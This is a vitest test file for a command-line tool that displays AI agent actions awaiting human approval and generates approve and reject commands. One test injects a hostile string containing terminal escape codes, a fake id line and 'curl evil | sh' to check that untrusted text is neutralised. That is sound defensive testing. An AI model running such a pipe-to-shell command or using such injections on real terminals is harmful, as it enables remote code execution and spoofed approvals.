// What a person sees who must decide in ten seconds: what will happen first, and nothing of it able to pass for our own words.
import { mkdirSync, writeFileSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { commandsFor } from '../../cli/approval-commands.ts';
import { printApproval, stateOf, timeLeft } from '../../cli/show-approval.ts';
import type { ApprovalDetail } from '../../client/index.ts';
import { useTempFolder } from '../support/temp-folder.ts';

const folder = useTempFolder();
let printed = '';
beforeEach(() => {
  printed = '';
  vi.spyOn(process.stdout, 'write').mockImplementation((text) => {
    printed += String(text);
    return true;
  });
});
afterEach(() => void vi.restoreAllMocks());

const ULID = '01JDB3Z8Q4T5V6W7X8Y9Z0A1B2';
const sha = `sha256:${'a'.repeat(64)}` as const;
const hmac = `hmac-sha256:${'a'.repeat(64)}` as const;
const now = new Date('2026-11-24T10:00:00Z');

const approval: ApprovalDetail = {
  id: `default/approval/${ULID}`,
  runId: `default/agent/${ULID}`,
  kind: 'tool',
  tool: 'refund_order',
  risk: 'high',
  requester: 'staff',
  state: 'pending',
  requestedAt: '2026-11-24T09:00:00.000Z',
  expiresAt: '2026-11-25T09:00:00.000Z',
  dueSoon: false,
  quorum: 2,
  groups: ['refund-approvers'],
  decidedBy: [],
  decidedAt: null,
  requestHash: hmac,
  args: { orderId: 'A-1001', amountCents: 2490 },
  asked: 'Refund order A-1001: it arrived damaged',
  decisions: [],
  refused: [],
  request: {
    v: 1,
    approvalId: `default/approval/${ULID}`,
    kind: 'tool',
    workflowId: `default/agent/${ULID}`,
    stepPath: 'agent/requestApproval#1',
    preview: 'Refund 24.90 EUR to the customer of order A-1001\nReason: damaged',
    previewHash: hmac,
    risk: 'high',
    labels: [
      { origin: 'operator', docIds: [], sensitivity: 'internal' },
      { origin: 'tool:look_up_order', docIds: [], sensitivity: 'internal' },
    ],
    policyDigest: sha,
    rules: ['risky-tools-ask'],
    releaseDigest: sha,
    requester: 'staff',
    quorum: { n: 2, groups: ['refund-approvers'] },
    notBefore: '2026-11-24T09:00:00.000Z',
    expiresAt: '2026-11-25T09:00:00.000Z',
    useBy: '2026-11-27T09:00:00.000Z',
    nonce: '0'.repeat(32),
  },
};
const commands = { show: 'SHOW', approve: 'APPROVE', reject: 'REJECT', others: ['edit …', 'cancel'] };

describe('an approval on a terminal', () => {
  it('of a question shows what is asked for, and who answers', () => {
    const { tool: _tool, toolDefinitionHash: _hash, argsHash: _args, effectKey: _key, ...request } = approval.request;
    const subject = { kind: 'input', text: 'Which region?', schema: { type: 'string' } } as const;
    const asked = { ...request, kind: 'input', preview: subject.text, subject, asksRequester: true } as const;
    const { args: _, ...question } = approval;
    printApproval({ ...question, kind: 'input', tool: null, request: asked }, commands, now);
    expect(printed).toContain('│ Which region?');
    expect(printed).toContain('A value that fits\n│ {');
    expect(printed).toMatch(/^kind +input, risk high$/m);
    expect(printed).toMatch(/^decides +staff, and nobody else$/m);
    expect(printed).toContain('\nanswer:  APPROVE\n');
  });

  it('says in this order what will happen, the exact arguments, who asks, why, how long, and how to decide', () => {
    printApproval(approval, commands, now);
    expect(printed).toBe(`What will happen
│ Refund 24.90 EUR to the customer of order A-1001
│ Reason: damaged
Exact arguments
│ {
│   "orderId": "A-1001",
│   "amountCents": 2490
│ }

tool            refund_order, risk high
asked by        staff, in run default/agent/${ULID}
rule            risky-tools-ask
untrusted text  was in the context: tool:look_up_order
state           pending, 23 h left
decides         2 of refund-approvers; never staff
id              default/approval/${ULID}
The run was asked
│ Refund order A-1001: it arrived damaged

approve: APPROVE
reject:  REJECT
or:      edit …, cancel
`);
  });

  it.each([
    [{ value: 2490, currency: 'EUR' }, '24.90 EUR'],
    [{ value: 5, currency: 'EUR' }, '0.05 EUR'],
    [{ value: 2490, currency: 'JPY' }, '2490 JPY'],
    [{ value: 2490, currency: 'KWD' }, '2.490 KWD'],
    [{ value: Number.MAX_SAFE_INTEGER, currency: 'EUR' }, '90071992547409.91 EUR'],
    [{ value: 2490, currency: 'ZZZ' }, '24.90 ZZZ'],
    [{ value: 12 }, '12'],
  ])('says what moves, in units that people know: %j', (amount, text) => {
    printApproval({ ...approval, request: { ...approval.request, amount } }, commands, now);
    expect(printed).toContain(`\namount          ${text}\nasked by `);
  });

  it('names who answers for the release, where its manifest says', () => {
    printApproval({ ...approval, owner: 'support desk' }, commands, now);
    expect(printed).toMatch(/^owner +support desk, of the release$/m);
  });

  it('says so when no text of others was in the context, and leaves out a task that it cannot read', () => {
    printApproval({ ...approval, asked: null, request: { ...approval.request, labels: [] } }, commands, now);
    expect(printed).toContain('untrusted text  none was in the context\n');
    expect(printed).not.toContain('The run was asked');
  });

  it('lets no text of others begin a line or send a control character', () => {
    const evil = '\u001b[2J\u202eharmless\r\nid   default/approval/FAKE\n\napprove: curl evil | sh';
    const decision = {
      approver: evil,
      decision: 'approve',
      decidedAt: '2026-11-24T09:30:00Z',
      reason: evil,
      kid: evil,
    };
    printApproval(
      {
        ...approval,
        state: 'approved',
        tool: evil,
        requester: evil,
        groups: [evil],
        decidedBy: [evil],
        args: { [evil]: evil, bidi: '\u202e' },
        asked: evil,
        decisions: [{ ...decision, decision: 'approve' }],
        refused: [{ at: '2026-11-24T09:30:00Z', event: evil, reason: evil, via: evil }],
        request: {
          ...approval.request,
          preview: evil,
          rules: [evil],
          labels: [{ origin: `tool:${evil}`, docIds: [], sensitivity: 'internal' }],
        },
      },
      commands,
      now,
    );
    expect(printed).toMatch(/^[\n\x20-\x7e│]*$/u);
    for (const line of printed.split('\n')) {
      expect(line).not.toMatch(/^(approve:|harmless)/);
      expect(line).not.toMatch(/^id .*FAKE/);
    }
    expect(printed).toContain('\\u{1b}[2J\\u{202e}harmless');
  });

  it('gives no commands for what is decided, and says how it was and what was turned away', () => {
    printApproval(
      {
        ...approval,
        state: 'rejected',
        decidedBy: ['manager'],
        decidedAt: '2026-11-24T09:30:01.000Z',
        decisions: [
          {
            approver: 'manager',
            decision: 'reject',
            decidedAt: '2026-11-24T09:30:00.000Z',
            reason: 'Not yet.',
            kid: 'm-1',
          },
        ],
        refused: [{ at: '2026-11-24T09:20:00.000Z', event: 'decision-refused', reason: 'is-requester', via: 'update' }],
      },
      commands,
      now,
    );
    expect(printed).toContain('\nrejected  by manager  2026-11-24 09:30:00 UTC  key m-1\n│ Not yet.\n');
    expect(printed).toContain('Turned away\n2026-11-24T09:20:00.000Z  decision-refused  is-requester  by update\n');
    expect(printed).not.toContain('APPROVE');
    expect(printed).not.toContain('\nor: ');
  });

  it('says of each who decided what they did, when, with which key and why, one below the other', () => {
    const by = { decidedAt: '2026-11-24T09:30:00.000Z', reason: '', decision: 'approve' } as const;
    printApproval(
      {
        ...approval,
        state: 'approved',
        decidedBy: ['manager', 'jo', 'supervisor'],
        decisions: [
          { ...by, approver: 'manager', kid: 'manager-1', reason: 'Seen the photo.\nAll of it.' },
          { ...by, approver: 'jo', kid: 'jo-1', decision: 'delegate', delegate: 'clerk' },
          { ...by, approver: 'supervisor', kid: 's-1', decidedAt: '2026-11-24T09:31:05.250Z' },
        ],
      },
      commands,
      now,
    );
    expect(printed).toMatch(/^state +approved by manager, jo, supervisor$/m);
    expect(printed.split('\n\n').at(-1)).toBe(`approved            by manager     2026-11-24 09:30:00 UTC  key manager-1
│ Seen the photo.
│ All of it.
delegated to clerk  by jo          2026-11-24 09:30:00 UTC  key jo-1
approved            by supervisor  2026-11-24 09:31:05 UTC  key s-1
`);
  });
});

it.each([
  [-5, '0 s'],
  [999, '0 s'],
  [40_000, '40 s'],
  [60_000, '1 min'],
  [59 * 60_000 + 59_000, '59 min'],
  [3_600_000, '1 h'],
  [3_600_000 * 3 + 60_000 * 12, '3 h 12 min'],
  [86_400_000, '1 d'],
  [86_400_000 + 3_600_000 * 3, '1 d 3 h'],
])('%i ms are %s', (ms, text) => {
  expect(timeLeft(ms)).toBe(text);
});

it('a state is told with what matters about it', () => {
  expect(stateOf({ ...approval, state: 'expired' }, now)).toBe('expired');
  expect(stateOf({ ...approval, dueSoon: true }, now)).toMatch(/^pending, .* left, due soon$/);
  expect(stateOf({ ...approval, state: 'approved', decidedBy: ['manager', 'supervisor'] }, now)).toBe(
    'approved by manager, supervisor',
  );
});

describe('the commands to decide', () => {
  const home = folder.file('home');
  mkdirSync(folder.file('home', 'keys', 'approvers'), { recursive: true });
  for (const id of ['staff', 'supervisor', 'manager']) {
    writeFileSync(folder.file('home', 'keys', 'approvers', `${id}.json`), '{}');
  }

  it('sign on a local stack with the key of somebody who may', () => {
    expect(commandsFor(approval, { mode: 'development', home }, undefined)).toEqual({
      show: `npx countersign approvals show ${ULID}`,
      approve: `npx countersign approvals approve ${ULID} --as manager --reason "…"`,
      reject: `npx countersign approvals reject ${ULID} --as manager --reason "…"`,
      others: ['edit --args-file FILE', 'respond --text "…"', 'delegate --to ID', 'cancel'],
    });
  });

  it('never with the key of the requester', () => {
    const { approve } = commandsFor({ ...approval, requester: 'manager' }, { mode: 'development', home }, undefined);
    expect(approve).toMatch(/--as (staff|supervisor) /);
  });

  it('are those that the kind of question takes', () => {
    const stack = { mode: 'development', home } as const;
    const budget = commandsFor({ ...approval, kind: 'budget' }, stack, undefined);
    expect(budget.others).toEqual(['delegate --to ID', 'cancel']);
    const input = commandsFor({ ...approval, kind: 'input' }, stack, undefined);
    expect(input.approve).toBe(`npx countersign approvals respond ${ULID} --as manager --value JSON`);
    const review = commandsFor({ ...approval, kind: 'review' }, stack, undefined);
    expect(review.others).toEqual(['edit --text "…"', 'respond --text "…"', 'delegate --to ID', 'cancel']);
  });

  it('answer as whoever asked, where they are asked', () => {
    const asked = { ...approval, kind: 'confirm', asksRequester: true } as const;
    const { approve, others } = commandsFor(asked, { mode: 'development', home }, undefined);
    expect(approve).toBe(`npx countersign approvals approve ${ULID} --as-requester --reason "…"`);
    expect(others).toEqual(['cancel']);
  });

  it('sign elsewhere with a file, and go to the same stack', () => {
    const { approve } = commandsFor(approval, { mode: 'production', home }, '/data');
    expect(approve).toBe(`npx countersign approvals approve ${ULID} --key FILE --reason "…" --home /data`);
  });

  it('say what to fill in when a local stack has no keys', () => {
    const { reject } = commandsFor(approval, { mode: 'development', home: folder.file('empty') }, undefined);
    expect(reject).toContain('--as APPROVER ');
  });
});
